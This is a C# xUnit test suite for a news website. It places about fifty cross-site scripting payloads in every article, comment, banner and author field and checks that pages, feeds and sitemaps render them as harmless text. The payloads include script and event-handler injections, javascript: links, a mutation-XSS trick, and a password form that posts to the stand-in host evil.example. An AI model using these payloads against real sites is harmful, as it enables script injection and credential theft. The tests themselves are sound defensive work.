using System.Text.Json;
using AngleSharp.Dom;
using AngleSharp.Html.Dom;
using NewsSite.Model;
using NewsSite.TestKit;
using NewsSite.Text;
using Xunit;

namespace NewsSite.Web.Tests.Promises;

/// <summary>P1–P3 and P6: nothing that anyone writes becomes script, handler, frame or form on any page. A browser proves it elsewhere; here every payload stands in every field at once.</summary>
public sealed class ScriptsTests(SharedSite shared)
{
    private static readonly string[] Payloads =
    [
        "<script>alert(1)</script>", "\"><script>alert(1)</script>", "</script><script>alert(1)</script>", "</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>",
        "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "<svg/onload=alert(1)//", "\" onmouseover=\"alert(1)", "' onfocus='alert(1)' autofocus='", "` onclick=alert(1) `",
        "javascript:alert(1)", "[x](javascript:alert(1))", "[x](JaVaScRiPt&colon;alert(1))", "[x](java\tscript:alert(1))", "[x](data:text/html,<script>alert(1)</script>)", "[x](vbscript:x)", "<javascript:alert(1)>",
        "![x](javascript:alert(1))", "![\" onerror=\"alert(1)](x.jpg)", "[x](x \"' onclick=alert(1) '\")", "[x]: javascript:alert(1)\n\n[x]",
        "<iframe srcdoc='<script>alert(1)</script>'></iframe>", "<object data=javascript:alert(1)>", "<embed src=//evil.example>", "<base href=//evil.example>", "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
        "<form action=//evil.example><input name=password>", "<style>*{background:url(//evil.example)}</style>", "<link rel=stylesheet href=//evil.example>", "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "<!--<script>alert(1)</script>-->", "<![CDATA[<script>alert(1)</script>]]>", "]]><script>alert(1)</script>", "<?xml-stylesheet href=javascript:alert(1)?>", "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)",
        "{{constructor.constructor('alert(1)')()}}", "${alert(1)}", "\\u003cscript\\u003ealert(1)", "<a href=//evil.example style='position:fixed;inset:0'>x</a>", "<div id=comment-form class=masthead>x</div>",
        "\u202Egnp.exe\u202C", "\u2066over\u2069", "<ScRiPt\n>alert(1)</sCrIpT>", "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>", "`<script>alert(1)</script>`", "~~~html\n<script>alert(1)</script>\n~~~", "| <script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    ];

    private static readonly string[] Links = ["http", "https", "mailto", "sms"];

    [Fact]
    public async Task Every_payload_in_every_field_stays_text()
    {
        using var site = await TestSite.StartAsync(("Comments:Moderation", "None"));
        using var client = site.Client();
        var paths = new List<string>();
        for (var i = 0; i < Payloads.Length; i++) paths.Add(await WriteAsync(site, i, Payloads[i]));

        var receipt = await client.CommentAsync(Payloads[0] + " in words of a reader", "\"><b>");
        var shown = 0;
        foreach (var address in paths.Concat(paths.Select(Visits.LiteOf)).Concat(["/", "/latest", "/lite", "/lite/latest", "/lite/search?q=alert", "/sections/hostile", "/topics/hostile-0", "/topics/hostile-7", "/authors/hostile-0", "/authors/hostile-3", "/corrections", "/lite/corrections", receipt, "/comments", paths[0] + "/comments/1"]))
        {
            using var answer = await client.GetAsync(address);
            Assert.True(answer.IsSuccessStatusCode, $"{address}: {answer.StatusCode}");
            var page = await TestSite.ReadPageAsync(answer);
            RequireHarmless(page, address, Policy(answer));
            if (page.DocumentElement.TextContent.Contains("alert(1)", StringComparison.Ordinal)) shown++;
        }
        Assert.True(shown > Payloads.Length / 2, "the payloads are shown, as text");

        foreach (var payload in Payloads) await BannerAsync(site, client, payload);

        using var refused = await client.PostAsync(Visits.Provided + "/comments", Visits.Form(("name", string.Concat(Enumerable.Repeat(Payloads[1], 9))), ("text", Payloads[4] + Payloads[8])));
        Assert.Equal(422, (int)refused.StatusCode);
        RequireHarmless(await TestSite.ReadPageAsync(refused), "the form, with what was typed");
    }

    [Fact]
    public async Task Feeds_and_sitemaps_are_well_formed_whatever_stands_in_them()
    {
        using var site = await TestSite.StartAsync();
        using var client = site.Client();
        for (var i = 0; i < Payloads.Length; i++) await WriteAsync(site, i, Payloads[i] + " \u0001\u0008\uFFFE & ]]>");
        foreach (var address in new[] { "/feed.xml", "/atom.xml", "/sections/hostile/atom.xml", "/topics/hostile-1/feed.xml", "/corrections/feed.xml", "/corrections/atom.xml", "/sitemap.xml", "/sitemap-2026-11.xml" })
        {
            var xml = System.Xml.Linq.XDocument.Parse(await client.TextAsync(address));
            Assert.DoesNotContain(xml.Descendants(), e => e.Name.LocalName == "script");
        }
        using var json = JsonDocument.Parse(await client.TextAsync("/feed.json"));
        Assert.Equal(30, json.RootElement.GetProperty("items").GetArrayLength());
    }

    /// <summary>P3 on all that the paper itself shows, errors and forms included.</summary>
    [Fact]
    public async Task No_page_holds_an_inline_script_style_or_handler()
    {
        using var client = shared.Site.Client();
        foreach (var address in (await shared.Site.EveryAddressAsync()).Concat(["/none", "/fa/none", "/lite/none", "/comments", "/fa/lite/comments", "/account/sign-in", "/account/link/none", "/account/denied", Visits.Provided + "/comments"]))
        {
            using var answer = await client.GetAsync(address);
            if (answer.Content.Headers.ContentType?.MediaType == "text/html") RequireHarmless(await TestSite.ReadPageAsync(answer), address, Policy(answer));
        }
    }

    /// <summary>P6: a name stands alone, so that it cannot reorder its neighbours.</summary>
    [Fact]
    public async Task Names_are_isolated()
    {
        using var site = await TestSite.StartAsync(("Comments:Moderation", "None"));
        using var client = site.Client();
        await client.CommentAsync("Words under a name.", "نام یک خواننده");
        var page = await TestSite.ReadPageAsync(await client.GetAsync(Visits.Provided));
        Assert.Equal("نام یک خواننده", page.QuerySelector(".comment bdi")!.TextContent);
        var house = await TestSite.ReadPageAsync(await client.GetAsync("/articles/two-calendars"));
        Assert.All(house.QuerySelectorAll("a[rel=author]"), a => Assert.Equal("BDI", Assert.Single(a.Children).TagName));
    }

    /// <summary>The control: unencoded, the corpus is full of what this looks for.</summary>
    [Fact]
    public async Task Unencoded_the_corpus_would_do_harm()
    {
        var harmful = 0;
        foreach (var payload in Payloads)
        {
            using var content = new StringContent($"<body><p title=\"{payload}\">{payload}</p></body>");
            using var answer = new HttpResponseMessage { Content = content };
            try
            {
                RequireHarmless(await TestSite.ReadPageAsync(answer), payload);
            }
            catch (Xunit.Sdk.XunitException)
            {
                harmful++;
            }
        }
        Assert.True(harmful > 25, $"{harmful} only");
    }

    // Our own drawings, and nothing beside them.
    private const string Icon = "body > svg.sprite, h2 > svg.icon, p > svg.icon, li > a > svg.icon, a.to-search > svg.icon, form.find svg.icon";

    private static string Policy(HttpResponseMessage answer) => string.Join(' ', answer.Headers.GetValues("Content-Security-Policy"));

    /// <param name="policy">What the answer lets a browser do: a style may stand in the page where this names it by its digest, in lite.</param>
    private static void RequireHarmless(IDocument page, string address, string policy = "")
    {
        foreach (var element in page.All)
        {
            foreach (var attribute in element.Attributes)
            {
                Assert.False(attribute.Name.StartsWith("on", StringComparison.OrdinalIgnoreCase), $"{address}: <{element.LocalName} {attribute.Name}>");
                Assert.False(attribute.Name is "style" or "srcdoc" or "ping" or "background" or "formaction", $"{address}: <{element.LocalName} {attribute.Name}>");
                if (element.LocalName == "link" && attribute.Value == "data:,") continue; // the icon of lite pages, which is none
                if (attribute.Value.StartsWith("data:image/svg+xml,", StringComparison.Ordinal) && element.Matches("link[rel=icon], .nameplate > a > img.mark")) continue; // the paper's own drawing
                if (attribute.Name is not ("href" or "src" or "action" or "cite" or "data" or "poster")) continue;
                var value = attribute.Value.Trim();
                Assert.True(!value.Contains(':', StringComparison.Ordinal) || value[0] is '/' or '#' or '?' || Links.Contains(value.Split(':')[0]), $"{address}: {attribute.Name}={value}");
                Assert.DoesNotContain("//evil.example", attribute.Name == "href" && element is IHtmlAnchorElement ? "" : value, StringComparison.Ordinal);
            }
            Assert.False(element.LocalName is "iframe" or "object" or "embed" or "base" or "math" or "foreignobject" or "applet" or "frame", $"{address}: <{element.LocalName}>");
            if (element.LocalName == "svg") Assert.True(element.Matches(Icon) && element.QuerySelectorAll("*").All(e => e.Matches("symbol[id^=i-], path, circle, use[href^='#i-']")), $"{address}: {element.OuterHtml}");
            if (element.LocalName == "style") Assert.Contains($"style-src '{Visits.DigestOf(element.TextContent)}'", policy, StringComparison.Ordinal);
            if (element is IHtmlScriptElement script)
            {
                if (script.Type == "application/ld+json")
                {
                    Assert.DoesNotContain("<", script.Text, StringComparison.Ordinal);
                    JsonDocument.Parse(script.Text).Dispose();
                }
                else
                {
                    Assert.StartsWith("/js/", script.Source, StringComparison.Ordinal);
                    Assert.Empty(script.Text);
                }
            }
            if (element is IHtmlFormElement form) Assert.True((form.GetAttribute("action") ?? "/") is ['/', not '/', ..], $"{address}: form to {form.GetAttribute("action")}");
            if (element is IHtmlMetaElement meta) Assert.Null(meta.HttpEquivalent);
        }
    }

    /// <summary>The front page at its top, and the desk's page for it, with these words in the banner; the picks are of the articles that are there.</summary>
    private static async Task BannerAsync(TestSite site, HttpClient client, string payload)
    {
        await site.WriteAsync(async db => (await db.Banners.FindAsync("en") ?? db.Banners.Add(new Banner { Edition = "en" }).Entity).Say(payload, null, site.Clock.Now.AddHours(1)));
        foreach (var address in new[] { "/", "/lite" })
        {
            using var answer = await client.GetAsync(address);
            var page = await TestSite.ReadPageAsync(answer);
            RequireHarmless(page, address, Policy(answer));
            Assert.Equal(PlainText.CleanLine(payload), PlainText.CleanLine(page.QuerySelector(".breaking span")!.TextContent));
            Assert.Equal(3, page.QuerySelectorAll(".picks blockquote p").Length);
        }
    }

    /// <summary>Past all acts, straight into the database: what is shown must not rely on what was let in.</summary>
    private static async Task<string> WriteAsync(TestSite site, int number, string payload)
    {
        var article = await site.FileAsync($"Hostile {number}", payload, change: (article, db) =>
        {
            article.Headline = payload + number;
            article.Summary = payload;
            var media = new MediaFile { Key = $"hostile{number:0000}hhhhhhhhhhhhhhh", Name = payload, Width = 640, Height = 400, StoredAt = site.Clock.Now };
            article.Lead = new LeadPicture { MediaFile = media, Alt = payload, AltLang = payload, Caption = payload, Credit = payload };
            article.Section = db.Sections.SingleOrDefault(s => s.Slug == "hostile") ?? new Section { Slug = "hostile", Name = new EditionText { ["en"] = payload }, Position = 9 };
            article.SetTopics([new Topic { Edition = "en", Slug = $"hostile-{number}", Name = payload }]);
            article.SetBylines([new Author { Slug = $"hostile-{number}", Name = new EditionText { ["en"] = payload }, Bio = new EditionText { ["en"] = payload } }]);
            article.Correct(CorrectionKind.Correction, number % 2 == 0 ? CorrectionPlace.Top : CorrectionPlace.Bottom, payload, site.Clock.Now.AddMinutes(-90));
            article.Publish(site.Clock.Now.AddMinutes(-100 + number));
        });
        await site.WriteAsync(db =>
        {
            var comment = Comment.Write(article.Id, null, payload, payload + "\n\n" + payload, "screening.none", site.Clock.Now);
            comment.Approve(site.Clock.Now);
            comment.Pick(site.Clock.Now);
            db.Comments.Add(comment);
            return Task.CompletedTask;
        });
        return "/" + article.Path;
    }
}
